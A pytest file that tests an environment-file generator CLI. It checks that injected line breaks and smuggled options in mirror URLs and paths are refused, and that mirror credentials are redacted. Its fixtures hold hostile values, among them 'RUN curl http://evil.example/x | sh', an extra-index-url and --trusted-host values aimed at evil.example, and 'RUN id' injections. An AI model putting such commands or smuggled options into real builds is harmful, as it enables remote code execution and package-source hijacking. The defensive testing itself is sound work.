"""Issue 11, sections 2 and 3, through the CLI: values that try to write their own lines into the
rendered files, and credentials that must never reach them.

Each attack enters the way a user would give it: the --mirror flag, ENVGEN_MIRROR, `mirror` in a
cloned project's pyproject.toml, a --profile path. Each test states what must hold afterwards:
the command fails with one line naming the value's source and writes nothing, or the files keep
their line structure and carry no secret.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from envgen.cli import main
from envgen.errors import InputFileError, UsageError

PROFILES = Path(__file__).parent.parent / "data" / "profiles"
CPU = PROFILES / "linux-cpu-py311.toml"
INJECTED = "RUN curl http://evil.example/x | sh"
SMUGGLED = "--extra-index-url http://evil.example/simple"
SECRET = "s3cret"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A cloned project: pyproject.toml without envgen settings, no ENVGEN_* variables."""
    monkeypatch.chdir(tmp_path)
    for name in list(os.environ):
        if name.startswith("ENVGEN_"):
            monkeypatch.delenv(name)
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "cloned"\n')
    return tmp_path


def _render(*extra: str) -> int:
    return main(["render", "--target", "cpu", "--profile", str(CPU), "-o", "out", *extra])


def _written(project: Path) -> dict[str, str]:
    out = project / "out"
    return {p.name: p.read_text() for p in out.iterdir()} if out.is_dir() else {}


def _refused(
    project: Path,
    capsys: pytest.CaptureFixture[str],
    code: int,
    source: str,
    expected: int = UsageError.exit_code,
) -> str:
    """The render failed with `expected` (a usage error; a bad input file for a value from the
    project's configuration) naming `source` in one line, and wrote nothing."""
    err = capsys.readouterr().err
    assert code == expected, err
    first = err.splitlines()[0]
    assert first.startswith("envgen: error: "), err
    assert source in first, err
    assert len(err.splitlines()) <= 2, err  # the error and its hint, each one line
    assert _written(project) == {}
    return err


NEWLINE_MIRRORS = [
    f"https://good.example/simple\n{INJECTED}\n{SMUGGLED}",
    f"https://good.example/simple\r{INJECTED}\r{SMUGGLED}",
    f"https://good.example/simple\r\n{INJECTED}",
    "https://good.example/simple\u2028RUN id",
    "https://good.example/simple\x85RUN id",
]


@pytest.mark.parametrize("mirror", NEWLINE_MIRRORS)
def test_mirror_flag_with_a_line_break_is_refused(
    project: Path, capsys: pytest.CaptureFixture[str], mirror: str
) -> None:
    _refused(project, capsys, _render("--mirror", mirror), "--mirror")


@pytest.mark.parametrize("mirror", NEWLINE_MIRRORS[:2])
def test_envgen_mirror_with_a_line_break_is_refused(
    project: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    mirror: str,
) -> None:
    monkeypatch.setenv("ENVGEN_MIRROR", mirror)
    _refused(project, capsys, _render(), "ENVGEN_MIRROR")


@pytest.mark.parametrize("mirror", NEWLINE_MIRRORS[:2])
def test_pyproject_mirror_with_a_line_break_is_refused(
    project: Path, capsys: pytest.CaptureFixture[str], mirror: str
) -> None:
    # A cloned repository's configuration is someone else's input: TOML escapes carry the break.
    escaped = json.dumps(mirror)
    (project / "pyproject.toml").write_text(f"[tool.envgen]\nmirror = {escaped}\n")
    _refused(project, capsys, _render(), "tool.envgen.mirror", InputFileError.exit_code)


@pytest.mark.parametrize(
    "mirror",
    [
        "https://good.example/simple --trusted-host evil.example",
        "https://good.example/simple\t--trusted-host=evil.example",
        "https://good.example/simple#--trusted-host=evil.example",
        "https:///simple",
        "https://",
        "https://:443/simple",
        "https://good.example:99999/simple",
        "https://good.example:port/simple",
        "https://a@b@good.example/simple",
        "https://good.example/sim'ple",
        'https://good.example/"simple"',
        "https://good.example/${HOME}",
        "https://good.example\\@evil.example/simple",
        "https://bad_host!/simple",
        "https://good.example/simple\x00",
        "https://good.example/simple\x1b[2J",
        "https://[::1/simple",
        "https://" + "a" * 5000 + ".example/simple",
    ],
)
def test_a_mirror_is_one_https_url_with_a_host_and_nothing_after_it(
    project: Path, capsys: pytest.CaptureFixture[str], mirror: str
) -> None:
    _refused(project, capsys, _render("--mirror", mirror), "--mirror")


def test_a_plain_mirror_url_still_renders(project: Path) -> None:
    assert _render("--mirror", "https://pypi.corp.example:8443/simple/") == 0
    assert (
        "--index-url https://pypi.corp.example:8443/simple/\n"
        in _written(project)["requirements.txt"]
    )


def test_profile_path_with_a_line_break_stays_inside_the_header_comment(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = project / "p\nRUN id\n#.toml"
    shutil.copy(CPU, hostile)
    formats = "environment.yml,requirements.txt,Dockerfile,pip.conf,uv.toml,.condarc"
    argv = ["render", "--target", "cpu", "--profile", str(hostile), "-o", "out"]
    assert main([*argv, "--format", formats]) == 0, capsys.readouterr().err
    files = _written(project)
    assert sorted(files) == sorted(formats.split(","))
    for name, text in files.items():
        lines = text.splitlines()
        regenerate = lines[1]
        assert regenerate.startswith("# regenerate: envgen render --profile $'"), name
        assert "p\\nRUN id\\n#.toml'" in regenerate, name
        assert not any(line.startswith("RUN id") for line in lines), name
        assert lines[2].startswith("# inputs-sha256: "), name
    import tomllib

    import yaml

    assert yaml.safe_load(files["environment.yml"])["name"] == "tf2.21-cpu"
    assert tomllib.loads(files["uv.toml"])["index"][0]["url"] == "https://pypi.org/simple"


def test_regenerate_line_pastes_back_into_bash_as_the_same_argument(project: Path) -> None:
    import shlex

    hostile = project / "p\nRUN id\t'x'.toml"
    shutil.copy(CPU, hostile)
    assert main(["render", "--profile", str(hostile), "-o", "out", "--format", "uv.toml"]) == 0
    line = _written(project)["uv.toml"].splitlines()[1]
    quoted = line.split("--profile ", 1)[1]
    assert quoted.startswith("$'")
    # bash's $'…' rules for what we emit: \\n, \\t, \\' and \\\\ (bash(1), QUOTING).
    body = quoted[2 : quoted.rindex("'")]
    decoded = (
        body.replace("\\\\", "\0").replace("\\n", "\n").replace("\\t", "\t").replace("\\'", "'")
    ).replace("\0", "\\")
    assert decoded == str(hostile)
    assert shlex.split(line.removeprefix("# regenerate: ").split(" --profile")[0]) == [
        "envgen",
        "render",
    ]


def test_lock_path_with_a_line_break_is_refused(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lock = "lock\nRUN id"
    (project / "out").mkdir()
    (project / "out" / lock).write_text("six==1.17.0\n")
    code = _render("--lock", lock)
    err = capsys.readouterr().err
    assert code == UsageError.exit_code, err
    assert "--lock" in err.splitlines()[0]
    assert not (project / "out" / "Dockerfile").exists()


# --- credentials (section 3) ---------------------------------------------------------------------

CREDENTIALED = f"https://user:{SECRET}@good.example/simple"


def _no_secret(project: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
    files = _written(project)
    assert files
    for name, text in files.items():
        assert SECRET not in text, name
        assert "user:" not in text, name
    for path in project.rglob("*"):
        # pyproject.toml is where one test put the secret itself.
        if path.is_file() and path.name != "pyproject.toml":
            assert SECRET not in path.read_text(), path
    captured = capsys.readouterr()
    assert SECRET not in captured.out + captured.err
    return files


@pytest.mark.parametrize("how", ["flag", "env", "pyproject"])
def test_credentials_in_the_mirror_never_reach_a_file(
    project: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    how: str,
) -> None:
    formats = ["--format", "environment.yml,requirements.txt,Dockerfile,pip.conf,uv.toml"]
    if how == "flag":
        code = _render("--mirror", CREDENTIALED, *formats)
    elif how == "env":
        monkeypatch.setenv("ENVGEN_MIRROR", CREDENTIALED)
        code = _render(*formats)
    else:
        (project / "pyproject.toml").write_text(f'[tool.envgen]\nmirror = "{CREDENTIALED}"\n')
        code = _render(*formats)
    assert code == 0, capsys.readouterr().err
    files = _no_secret(project, capsys)
    assert "--index-url https://good.example/simple\n" in files["requirements.txt"]
    assert "index-url = https://good.example/simple\n" in files["pip.conf"]
    assert 'url = "https://good.example/simple"\n' in files["uv.toml"]
    docker = files["Dockerfile"]
    assert "ARG PIP_INDEX_URL=https://good.example/simple\n" in docker
    # The login arrives as a build secret, mounted for the one RUN that installs.
    assert "RUN --mount=type=secret,id=netrc" in docker
    assert "--secret id=netrc" in docker
    for name in ("requirements.txt", "pip.conf", "uv.toml", "Dockerfile"):
        assert "netrc" in files[name], name


@pytest.mark.usefixtures("project")
def test_credentials_are_redacted_in_json_output(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--json", "render", "--profile", str(CPU), "--mirror", CREDENTIALED]) == 0
    out = capsys.readouterr().out
    assert SECRET not in out
    assert json.loads(out)["mirror"]["pypi"] == "https://good.example/simple"


def test_save_config_records_the_mirror_without_its_login(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["--mirror", CREDENTIALED, "--save-config", "--format", "requirements.txt"]
    assert _render(*argv) == 0
    pyproject = (project / "pyproject.toml").read_text()
    assert 'mirror = "https://good.example/simple"' in pyproject
    _no_secret(project, capsys)


@pytest.mark.parametrize(
    "mirror",
    [
        f"http://user:{SECRET}@good.example/simple",
        f"https://user:{SECRET}@good.example:port/simple",
        f"https://user:{SECRET}@/simple",
        f"https://user:{SECRET}@good.example/simple\nRUN id",
        f"ftp://user:{SECRET}@good.example/simple",
        f"user:{SECRET}@good.example/simple",
        f"https://user:{SECRET}/x@good.example/simple",
    ],
)
@pytest.mark.usefixtures("project")
def test_errors_about_a_credentialed_mirror_do_not_show_the_secret(
    capsys: pytest.CaptureFixture[str], mirror: str
) -> None:
    code = _render("--mirror", mirror)
    err = capsys.readouterr().err
    assert code == UsageError.exit_code, err
    assert SECRET not in err
    assert "--mirror" in err.splitlines()[0]


def test_the_regenerate_line_of_a_credentialed_render_reproduces_the_same_files(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import shlex

    assert _render("--mirror", CREDENTIALED) == 0
    first = _no_secret(project, capsys)
    line = first["requirements.txt"].splitlines()[1].removeprefix("# regenerate: ")
    assert "--mirror 'https://***@good.example/simple'" in line
    argv = shlex.split(line)[1:]
    assert main([*argv, "-o", "out"]) == 0
    assert _written(project) == first


@pytest.mark.parametrize(
    ("argv", "source"),
    [
        (["--mirror", f"https://good.example/simple\n{INJECTED}"], "--mirror"),
        (["--mirror", f"https://user:{SECRET}@good.example/simple --trusted-host x"], "--mirror"),
        (["--base-image", "python:3.11\nRUN id"], "--base-image"),
    ],
)
def test_create_refuses_bad_values_before_it_plans_locks_or_builds(
    project: Path, capsys: pytest.CaptureFixture[str], argv: list[str], source: str
) -> None:
    # The unit guard would fail this test at the first subprocess (uv): none may start.
    code = main(["create", "--profile", str(CPU), "--target", "cpu", "--output-dir", "out", *argv])
    err = capsys.readouterr().err
    assert code == UsageError.exit_code, err
    assert source in err.splitlines()[0]
    assert SECRET not in err
    assert not (project / "out").exists()


def test_create_headers_show_a_mirror_login_as_stars() -> None:
    from envgen.cli.create import _command
    from envgen.options import resolve

    given = {"profile": "p\nRUN id", "target": "cpu", "mirror": CREDENTIALED}
    args = resolve("create", given, {})
    command = _command(args)
    assert command == (
        "envgen create --profile $'p\\nRUN id' --target cpu "
        "--mirror 'https://***@good.example/simple'"
    )


def test_a_command_too_long_for_the_header_is_a_usage_error(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = project.joinpath(*(["d" * 200] * 6))
    deep.mkdir(parents=True)
    shutil.copy(CPU, deep / "p.toml")
    code = main(["render", "--profile", str(deep / "p.toml"), "-o", "out"])
    err = capsys.readouterr().err
    assert code == UsageError.exit_code, err
    assert "file headers" in err.splitlines()[0]
    assert not (project / "out").exists()


def test_a_bundle_download_sends_the_mirror_login_as_basic_auth() -> None:
    """A login in a mirror URL (`user:token@host`, percent-encoded as URLs hold it) reaches the
    download as HTTP Basic, the way pip sends it (RFC 7617: base64 of `user:password`)."""
    import base64

    from envgen.credentials import basic_auth

    assert basic_auth(None) == {}
    header = basic_auth("alice%40corp:t%3Aok%20en")["Authorization"]
    assert header.startswith("Basic ")
    assert base64.b64decode(header.removeprefix("Basic ")) == b"alice@corp:t:ok en"
    assert basic_auth("only-a-token") == {
        "Authorization": "Basic " + base64.b64encode(b"only-a-token:").decode()
    }
